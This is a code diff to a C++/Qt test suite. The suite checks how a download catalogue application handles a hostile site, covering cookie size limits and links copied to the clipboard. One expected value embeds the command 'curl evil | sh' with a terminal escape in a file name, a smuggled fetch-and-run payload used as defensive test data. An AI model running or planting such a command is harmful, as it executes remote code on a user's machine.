@@ -10,10 +10,10 @@
 #include <QMessageBox>
 #include <chrono>
 
-#include "app/handlers.h"
 #include "json/json_object.h"
 #include "platform/http/curl_http_request.h"
 #include "platform/script/duktape_bytecode_cache.h"
+#include "platform/window/controls.h"
 #include "platform/window/message_box_seam.h"
 #include "site/home_page.h"
 #include "tests/app/catalogue_fixture.h"
@@ -45,7 +45,7 @@ class HostileTest : public CatalogueTest {
 
   void StartUp() {
     ScopedMessageBoxInterceptor intercept([](QMessageBox&) {});
-    OnMainWindowCreated(window_);
+    CatalogueTest::StartUp();
   }
 
   std::string CookieSentWith(const std::string& path) const {
@@ -168,7 +168,7 @@ TEST_F(HostileTest, CookiesStayWithinBounds) {
   StartUp();
   EXPECT_EQ(window_.categoryCombo().count(), 3);
   EXPECT_EQ(window_.fileList().topLevelItemCount(), 3);
-  EXPECT_LE(SiteCookies.size(), kMaxCookieTextBytes);
+  EXPECT_LE(State().SiteCookies.size(), kMaxCookieTextBytes);
   for (const auto& request : site_.Log())
     EXPECT_LE(request.Header("Cookie").size(), kMaxCookieTextBytes) << RequestLine(request);
 }
@@ -211,7 +211,7 @@ TEST_F(ControlCharacterLinkTest, CopiedLinkHoldsNoControlCharacters) {
   files.setCurrentItem(files.topLevelItem(0), 2);
   int shown = 0;
   ScopedMessageBoxInterceptor intercept([&](QMessageBox&) { ++shown; });
-  OnFileDoubleClicked(window_);
+  emit window_.fileListDoubleClicked(GetCurrentSelection(files));
   const std::string expected = site_.BaseUrl() + "download/safe.isocurl evil | sh[8m";
   EXPECT_EQ(QApplication::clipboard()->text().toStdString(), expected);
   EXPECT_EQ(window_.linkEdit().text().toStdString(), expected);
